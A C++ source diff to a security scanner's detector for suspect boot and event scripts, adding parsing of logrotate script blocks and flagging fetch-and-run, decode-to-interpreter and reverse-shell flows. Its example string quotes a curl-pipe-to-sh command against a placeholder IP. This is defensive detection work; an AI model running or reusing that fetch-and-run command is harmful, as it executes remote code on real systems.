@@ -5,6 +5,7 @@
 #include <array>
 
 #include "detect/detector.hpp"
+#include "detect/shell/shell_support.hpp"
 #include "detect/start/start_entries.hpp"
 
 namespace hullcheck::detect {
@@ -20,13 +21,54 @@ constexpr std::array<RuleRow, 2> k_rows{{
      "Find out who put the script there and what runs it."},
 }};
 
+bool is_rotation(std::string_view path) {
+  return path == "etc/logrotate.conf" || layers::base_name(layers::parent_path(path)) == "logrotate.d";
+}
+
+// logrotate(8): what stands between postrotate (or one of its kin) and endscript is a script.
+void read_rotation(std::string_view text, EvidenceSink& out) {
+  static constexpr std::array<std::string_view, 5> k_begins = {"postrotate", "prerotate", "firstaction", "lastaction",
+                                                               "preremove"};
+  std::string script;
+  bool inside = false;
+  std::uint32_t first = 0;
+  for (std::uint32_t number = 1; !text.empty(); ++number) {
+    const std::size_t end = std::min(text.find('\n'), text.size());
+    std::string_view line = text.substr(0, end);
+    text.remove_prefix(std::min(end + 1, text.size()));
+    line.remove_prefix(std::min(line.find_first_not_of(" \t"), line.size()));
+    const std::string_view word = line.substr(0, line.find_first_of(" \t\r"));
+    if (!inside && std::find(k_begins.begin(), k_begins.end(), word) != k_begins.end()) {
+      inside = true;
+      first = number;
+      script.clear();
+    } else if (inside && word == "endscript") {
+      inside = false;
+      const ShellFacts facts = facts_of_text(script);
+      const auto bad = std::find_if(facts.flows.begin(), facts.flows.end(), [](const ShellFlow& flow) {
+        return runs_fetched(flow) || flow.kind == FlowKind::decode_to_interpreter ||
+               flow.kind == FlowKind::reverse_shell;
+      });
+      if (bad == facts.flows.end()) continue;
+      Evidence evidence = evidence_of(k_rows[1], "logrotate runs: " + script.substr(0, k_most_shown));
+      evidence.cls = EvidenceClass::strong;
+      evidence.line = first + bad->line;
+      out.add(std::move(evidence));
+    } else if (inside) {
+      script += std::string(line) + "\n";
+    }
+  }
+}
+
 class EventScripts final : public Detector {
  public:
   bool wants(const layers::FileInfo& file) const override {
-    return file.size() > 0 && file.size() <= k_most_bytes && start_file_kind(file.path()) == StartFileKind::udev_rule;
+    return file.size() > 0 && file.size() <= k_most_bytes &&
+           (start_file_kind(file.path()) == StartFileKind::udev_rule || is_rotation(file.path()));
   }
 
   void collect(const layers::FileView& file, EvidenceSink& out) const override {
+    if (is_rotation(file.path())) return read_rotation(file.text(), out);
     for (const StartCommand& command : parse_start_file(StartFileKind::udev_rule, file.text()).commands) {
       const bool odd = is_odd_command(command.command) || is_temporary(command.command);
       Evidence evidence = evidence_of(k_rows[1], "a device runs: " + command.command.substr(0, k_most_shown));
@@ -34,6 +76,19 @@ class EventScripts final : public Detector {
       evidence.line = command.line;
       evidence.values = {{"command", command.command}};
       out.add(std::move(evidence));
+    }
+  }
+
+  // Programs in folders for temporary files, and hidden ones.
+  void shell(const ShellUnit& unit, EvidenceSink& out) const override {
+    const bool event = is_event_script(unit.path), boot = is_boot_script(unit.path);
+    if (unit.build_time || (!event && !boot)) return;
+    for (const ShellFlow& flow : unit.facts.flows) {
+      const bool odd = flow.kind == FlowKind::run_path && is_resolved(flow.path) &&
+                       (is_temporary(flow.path) || (flow.path.starts_with('/') && is_hidden(flow.path)));
+      if (!odd) continue;
+      const RuleRow& row = k_rows[event ? 1 : 0];
+      out.add(shell_evidence(row, unit, flow.line, "runs " + flow.path, row.cls));
     }
   }
 
@@ -46,7 +101,7 @@ class EventScripts final : public Detector {
 
 const util::Registered<EventScripts> registered{{
     .id = "event-scripts",
-    .version = 1,
+    .version = 2,
     .summary = "suspect scripts at boot, and on events of udev, networks, logins and at",
     .example = "a device runs: /bin/sh -c 'curl http://192.0.2.1/x | sh'",
     .rules = k_rows,
